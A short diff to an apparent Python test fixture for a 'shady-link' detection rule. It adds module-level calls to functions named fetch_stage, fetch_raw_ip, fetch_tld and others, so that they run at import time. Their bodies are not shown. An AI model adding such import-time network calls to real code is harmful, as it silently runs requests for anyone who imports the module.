@@ -44,3 +44,14 @@ def lan_device():
 def api():
     # ok: shady-link
     return requests.get("https://api.example.invalid/v1/items").json()
+
+
+# Called when the module is imported, so the code above runs at import time.
+fetch_stage()
+fetch_short()
+fetch_raw_ip()
+fetch_tld()
+share_snippet(1)
+local_health()
+lan_device()
+api()
